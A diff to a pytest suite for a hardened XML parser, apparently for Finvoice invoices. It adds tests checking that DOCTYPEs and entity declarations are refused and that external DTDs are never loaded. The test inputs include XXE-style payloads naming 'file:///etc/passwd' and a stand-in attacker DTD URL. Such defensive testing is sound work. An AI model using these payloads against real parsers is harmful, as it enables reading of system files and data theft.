@@ -40,11 +40,36 @@ def test_billion_laughs_is_refused() -> None:
     assert _code(exc) == "xml_forbidden"
 
 
-def test_doctype_hidden_in_utf16_is_refused_after_parsing() -> None:
-    data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")
+@pytest.mark.parametrize("doctype", ['<!DOCTYPE a>', '<!DOCTYPE a [<!ENTITY e "x">]>',
+                                     '<!DOCTYPE a SYSTEM "/dev/zero">'])
+def test_doctype_hidden_in_utf16_is_refused_after_parsing(doctype: str) -> None:
+    data = f'<?xml version="1.0" encoding="UTF-16"?>{doctype}<a/>'.encode("utf-16")
     with pytest.raises(XmlRejected) as exc:
         parse_xml(data)
     assert _code(exc) == "xml_forbidden"
+
+
+@pytest.mark.parametrize("doctype", ['<!DOCTYPE Finvoice SYSTEM "Finvoice.dtd">',
+                                     '<!DOCTYPE Finvoice SYSTEM "file:///etc/passwd">',
+                                     "<!DOCTYPE Finvoice PUBLIC '-//x//EN' 'http://x/f.dtd'>"])
+def test_bare_doctype_naming_an_external_dtd_is_read_without_loading_it(doctype: str) -> None:
+    """Finvoice 1.x writers put one in; the DTD is never read (not even a local file)."""
+    root = parse_xml(f'<?xml version="1.0"?>{doctype}<Finvoice><A>x &amp; y</A>'
+                     "</Finvoice>".encode())
+    assert root.findtext("A") == "x & y"
+    assert "root:" not in "".join(root.itertext())
+
+
+@pytest.mark.parametrize("data", [
+    b'<!DOCTYPE r SYSTEM "http://evil.example/xxe.dtd"><r>&xxe;</r>',  # declared out there
+    b'<!DOCTYPE r SYSTEM "f.dtd" [<!ENTITY e "x">]><r>&e;</r>',
+    b'<!DOCTYPE r SYSTEM "f.dtd"><!DOCTYPE r SYSTEM "g.dtd"><r/>',
+    b'<!DOCTYPE r SYSTEM "f.dtd"><!ENTITY e "x"><r/>',
+])
+def test_doctype_with_declarations_or_entity_references_is_refused(data: bytes) -> None:
+    with pytest.raises(XmlRejected) as exc:
+        parse_xml(data)
+    assert _code(exc) in ("xml_forbidden", "xml_malformed")
 
 
 def test_ten_megabyte_file_is_refused_by_its_size(tmp_path: Path) -> None:
